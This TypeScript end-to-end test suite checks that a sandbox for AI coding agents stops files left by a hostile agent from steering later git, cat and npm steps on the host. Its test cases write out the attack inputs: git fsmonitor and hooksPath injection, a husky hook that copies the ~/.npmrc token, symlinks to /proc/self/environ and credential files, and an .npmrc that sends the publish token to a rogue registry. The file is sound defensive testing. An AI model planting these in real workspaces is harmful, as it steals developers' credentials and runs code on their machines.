// End to end: issue 8's first two classes, each done by a hostile agent in the jail, then a later step
// replayed on the host as the runner's uid (a non-root user holding secrets of its own: a publish
// token in the environment, a registry token in its HOME) running `git status`, `git commit`, `cat`
// and `npm` in the real workspace. The replay must get nothing of the agent's making. Where a replay
// could pass for the wrong reason, a control puts the agent's file in place by hand in a copy and
// shows the same replay does get hit. Then the legitimate work: edits, new files, a deletion, a chmod
// and a commit arrive exactly, under the root path and the sudo path.
import { execFileSync, spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { boundaryScene, type Elevation, expectRan, snapshot } from './helpers/boundaryScene';
import { describeJail } from './helpers/jailAvailable';

describeJail('the boundary: nothing the agent leaves behind steers a later step', () => {
  const scene = boundaryScene('agbound');
  const { checkout, runAgent, later, marker } = scene;

  describe.each<Elevation>(['root', 'sudo'])('guard as %s', (elevation) => {
    it('git commondir: the agent points .git at a config of its own; a later git status runs nothing', async () => {
      const ws = checkout();
      const gitBefore = snapshot(path.join(ws, '.git'));
      const hit = marker('commondir');
      const r = await runAgent(elevation, ws, [
        'mkdir -p evil/refs evil/objects && cp .git/HEAD evil/HEAD',
        `printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = "touch ${hit}"\\n' > evil/config`,
        'echo "$PWD/evil" > .git/commondir',
      ].join('\n'));
      expectRan(r);
      expect(r.stderr).toMatch(/boundary: \.git\/: \d+ change\(s\) refused/);
      await later(ws, 'git', ['status']);
      expect(fs.existsSync(hit)).toBe(false);
      // Only the index, which git status itself refreshes, may differ.
      const { index: _after, ...gitAfter } = snapshot(path.join(ws, '.git'));
      const { index: _before, ...gitBeforeRest } = gitBefore;
      expect(gitAfter).toEqual(gitBeforeRest);
    });

    it('mv .git and a fresh .git with fsmonitor and hooks: the real repository stays, a later git status and commit run nothing', async () => {
      const ws = checkout();
      const gitBefore = snapshot(path.join(ws, '.git'));
      const hit = marker('freshgit');
      const r = await runAgent(elevation, ws, [
        'mv .git .git-orig', 'git init -q .', `git config core.fsmonitor "touch ${hit}-fsmonitor"`,
        'mkdir -p .evil-hooks', `printf '#!/bin/sh\\ntouch ${hit}-hook\\n' > .evil-hooks/pre-commit`, 'chmod +x .evil-hooks/pre-commit',
        'git config core.hooksPath .evil-hooks',
      ].join(' && '));
      expectRan(r);
      fs.appendFileSync(path.join(ws, 'README.md'), 'a later step edits\n');
      await later(ws, 'git', ['status']);
      const commit = await later(ws, 'git', ['commit', '-qam', 'later step']);
      expect(commit.status).toBe(0);
      expect([fs.existsSync(`${hit}-fsmonitor`), fs.existsSync(`${hit}-hook`)]).toEqual([false, false]);
      const after = snapshot(path.join(ws, '.git'));
      expect(after['config']).toBe(gitBefore['config']);
      expect(Object.keys(after).filter((k) => k.startsWith('hooks/'))).toEqual(Object.keys(gitBefore).filter((k) => k.startsWith('hooks/')));
      // The copied repository does not come back as something git would open either.
      expect(r.stderr).toMatch(/boundary: \.git-orig\/HEAD: refused: it would make its folder look like a git repository/);
      expect(fs.existsSync(path.join(ws, '.git-orig', 'HEAD'))).toBe(false);
    });

    it('core.fsmonitor in the config: refused; the same line put in by hand does run (control)', async () => {
      const ws = checkout();
      const hit = marker('fsmonitor');
      const r = await runAgent(elevation, ws, `git config core.fsmonitor "touch ${hit}" && git config --get core.fsmonitor`);
      expectRan(r);
      expect(r.stdout).toContain(hit);
      await later(ws, 'git', ['status']);
      expect(fs.existsSync(hit)).toBe(false);
      const control = `${ws}-control`;
      execFileSync('cp', ['-a', ws, control]);
      await later(control, 'git', ['config', 'core.fsmonitor', `touch ${hit}`]);
      await later(control, 'git', ['status']);
      expect(fs.existsSync(hit)).toBe(true);
    });

    it('core.hooksPath into the workspace (husky): the agent rewrites the hook; a later commit runs the real one', async () => {
      const ws = checkout();
      const hit = marker('husky');
      const hook = `#!/bin/sh\ncat "$HOME/.npmrc" > ${hit}\n`;
      const r = await runAgent(elevation, ws, `printf '${hook.replace(/\n/g, '\\n')}' > .husky/pre-commit && chmod +x .husky/pre-commit && echo agent >> README.md`);
      expectRan(r);
      expect(r.stderr).toMatch(/boundary: \.husky\/(pre-commit)?: .*refused: .*(husky|hooksPath)/);
      expect(fs.readFileSync(path.join(ws, '.husky/pre-commit'), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
      const commit = await later(ws, 'git', ['commit', '-qam', 'later step']);
      expect(commit.status).toBe(0);
      expect(fs.existsSync(hit)).toBe(false);
      // Control: the agent's hook in place runs at the same commit.
      fs.writeFileSync(path.join(ws, '.husky/pre-commit'), hook, { mode: 0o755 });
      fs.appendFileSync(path.join(ws, 'README.md'), 'again\n');
      expect((await later(ws, 'git', ['commit', '-qam', 'control'])).status).toBe(0);
      expect(fs.readFileSync(hit, 'utf8')).toContain('_authToken');
    });

    it('a report that is a symlink to /proc/self/environ or to a credential file in HOME: cat gets no secret', async () => {
      const ws = checkout();
      const r = await runAgent(elevation, ws, `ln -s /proc/self/environ agent-report.md && ln -s ${scene.user.home}/.git-credentials summary.md && ln -s ../etc/passwd up.md`);
      expectRan(r);
      for (const name of ['agent-report.md', 'summary.md', 'up.md']) {
        expect(r.stderr).toContain(`boundary: ${name}: refused: a symlink`);
        const cat = await later(ws, 'cat', [name], 5000);
        expect(cat.stdout).not.toContain(scene.publishToken);
        expect(cat.stdout).not.toContain(scene.homeSecret);
      }
      // Control: the same link put in by hand does leak to the same cat.
      fs.symlinkSync('/proc/self/environ', path.join(ws, 'control.md'));
      expect((await later(ws, 'cat', ['control.md'])).stdout).toContain(scene.publishToken);
    });

    it('a FIFO named like a log: a later cat returns at once instead of hanging', async () => {
      const ws = checkout();
      const r = await runAgent(elevation, ws, 'mkfifo build.log && mkdir -p logs && mkfifo logs/agent.log');
      expectRan(r);
      expect(r.stderr).toContain('boundary: build.log: refused: a FIFO');
      for (const log of ['build.log', 'logs/agent.log']) {
        const cat = await later(ws, 'cat', [log], 10_000);
        expect({ log, signal: cat.signal, fast: cat.ms < 5000 }).toEqual({ log, signal: null, fast: true });
      }
    });

    it('a workspace .npmrc sending the publish token to another host: refused; npm talks to the runner\'s registry only', async () => {
      const ws = checkout();
      const host = scene.evil.url.replace(/^http:/, '');
      const npmrc = `registry=${scene.evil.url}\n${host}:_authToken=\${NODE_AUTH_TOKEN}\n`;
      const r = await runAgent(elevation, ws, `printf '${npmrc.replace(/\n/g, '\\n')}' > .npmrc && printf 'x' > .yarnrc.yml`);
      expectRan(r);
      expect(r.stderr).toMatch(/boundary: \.npmrc: refused: npm reads a project \.npmrc/);
      expect((await later(ws, 'npm', ['config', 'get', 'registry'])).stdout.trim()).toBe(scene.legit.url);
      const seenBefore = scene.legit.seen.length;
      const view = await later(ws, 'npm', ['view', 'left-pad', 'version']);
      expect(scene.evil.seen).toEqual([]);
      expect({ seen: scene.legit.seen.length > seenBefore, stderr: scene.legit.seen.length > seenBefore ? '' : view.stderr }).toEqual({ seen: true, stderr: '' });
      expect(scene.legit.seen.length).toBeGreaterThan(seenBefore);
      expect(scene.legit.seen[scene.legit.seen.length - 1].authorization).toBe(`Bearer ${scene.publishToken}`);
      // Control: the agent's .npmrc in place sends the token to the agent's host.
      fs.writeFileSync(path.join(ws, '.npmrc'), npmrc);
      await later(ws, 'npm', ['view', 'left-pad', 'version']);
      expect(scene.evil.seen.map((s) => s.authorization)).toContain(`Bearer ${scene.publishToken}`);
      scene.evil.seen.length = 0;
    });

    it('links the pull request planted before the run cannot redirect the apply', async () => {
      const ws = checkout();
      const r = await runAgent(elevation, ws, 'rm docs && mkdir docs && echo agent > docs/victim && rm report.md && echo report > report.md');
      expectRan(r);
      expect(fs.readFileSync(path.join(scene.outside, 'victim'), 'utf8')).toBe('untouched\n');
      expect(fs.lstatSync(path.join(ws, 'docs')).isDirectory()).toBe(true);
      expect(fs.readFileSync(path.join(ws, 'docs', 'victim'), 'utf8')).toBe('agent\n');
      expect(fs.lstatSync(path.join(ws, 'report.md')).isFile()).toBe(true);
      expect(fs.readFileSync(path.join(ws, 'report.md'), 'utf8')).toBe('report\n');
    });

    it('the legitimate work arrives exactly: edits, new files, a deletion, a chmod and a commit', async () => {
      const ws = checkout();
      const headBefore = (await later(ws, 'git', ['rev-parse', 'HEAD'])).stdout.trim();
      const before = snapshot(ws);
      const r = await runAgent(elevation, ws, [
        'echo more >> README.md', 'echo added > added.txt', 'mkdir -p new/dir && echo deep > new/dir/file.txt', 'rm old.txt', 'chmod +x tool.sh',
        'git config user.email agent@example.com', 'git config user.name Agent', 'git add -A', 'git commit -qm "agent: the work"',
      ].join(' && '));
      expectRan(r);
      const ref = /saved as (refs\/agent-guard\/\S+):/.exec(r.stderr)?.[1];
      expect(ref).toMatch(/^refs\/agent-guard\/[0-9a-f]+\/main$/);
      const after = snapshot(ws);
      const changed = [...new Set([...Object.keys(before), ...Object.keys(after)])].filter((k) => !k.startsWith('.git/') && before[k] !== after[k]).sort();
      expect(changed).toEqual(['README.md', 'added.txt', 'new/dir/file.txt', 'old.txt']);
      expect(fs.readFileSync(path.join(ws, 'README.md'), 'utf8')).toBe('hello\nmore\n');
      expect(fs.statSync(path.join(ws, 'tool.sh')).mode & 0o777).toBe(0o755);
      for (const f of ['README.md', 'added.txt', 'new/dir/file.txt', 'new/dir', 'new']) expect({ f, uid: fs.statSync(path.join(ws, f)).uid }).toEqual({ f, uid: scene.user.uid });
      expect((await later(ws, 'git', ['rev-parse', 'HEAD'])).stdout.trim()).toBe(headBefore);
      expect((await later(ws, 'git', ['log', '-1', '--format=%s', ref!])).stdout.trim()).toBe('agent: the work');
      expect((await later(ws, 'git', ['diff', '--name-status', 'HEAD', ref!])).stdout.trim().split('\n')).toEqual(['M\tREADME.md', 'A\tadded.txt', 'A\tnew/dir/file.txt', 'D\told.txt', 'M\ttool.sh']);
      expect((await later(ws, 'git', ['status', '--porcelain'])).stdout.trimEnd().split('\n')).toEqual([' M README.md', ' D old.txt', ' M tool.sh', '?? added.txt', '?? new/']);
      // The working tree is the commit's tree: nothing of the agent's is missing or extra.
      const tracked = (await later(ws, 'git', ['ls-tree', '-r', '--name-only', ref!])).stdout.trim().split('\n');
      for (const f of tracked) {
        const file = path.join(ws, f);
        const here = fs.lstatSync(file).isSymbolicLink() ? fs.readlinkSync(file) : fs.readFileSync(file, 'utf8');
        expect({ f, same: (await later(ws, 'git', ['show', `${ref}:${f}`])).stdout === here }).toEqual({ f, same: true });
      }
    });
  });

  it('fails closed, naming the boundary, when the overlay cannot be built (its upper layer on a filesystem overlayfs refuses)', async () => {
    const ws = checkout();
    const before = snapshot(ws);
    const scratch = fs.mkdtempSync('/var/tmp/agent-guard-e2e-ovl-');
    try {
      for (const d of ['l', 'u', 'w', 'm']) fs.mkdirSync(path.join(scratch, d));
      // In a private mount namespace of its own, TMPDIR (the guard's private folder) is itself an
      // overlay, which cannot be another overlay's upper layer.
      const script = 'mount -t overlay o -o lowerdir="$1/l",upperdir="$1/u",workdir="$1/w" "$1/m" && chmod 1777 "$1/m" && TMPDIR="$1/m" exec "$2" "$3" run -- sh -c "echo ran > ran.txt"';
      const r = spawn('unshare', ['--mount', '--propagation', 'private', '--', 'sh', '-c', script, 'sh', scratch, process.execPath, scene.guard], {
        cwd: ws, env: { PATH: process.env.PATH, HOME: '/root', GITHUB_WORKSPACE: ws }, stdio: ['ignore', 'pipe', 'pipe'],
      });
      let stderr = '';
      r.stderr.on('data', (d) => (stderr += d));
      const code = await new Promise<number | null>((resolve) => r.on('close', resolve));
      expect({ code, lines: stderr.trim().split('\n').length }).toEqual({ code: 125, lines: 1 });
      expect(stderr).toMatch(/^agent-guard: boundary layer: cannot mount an overlay over the workspace: .*the agent did not run$/m);
      expect(snapshot(ws)).toEqual(before);
    } finally {
      fs.rmSync(scratch, { recursive: true, force: true });
    }
  });
});
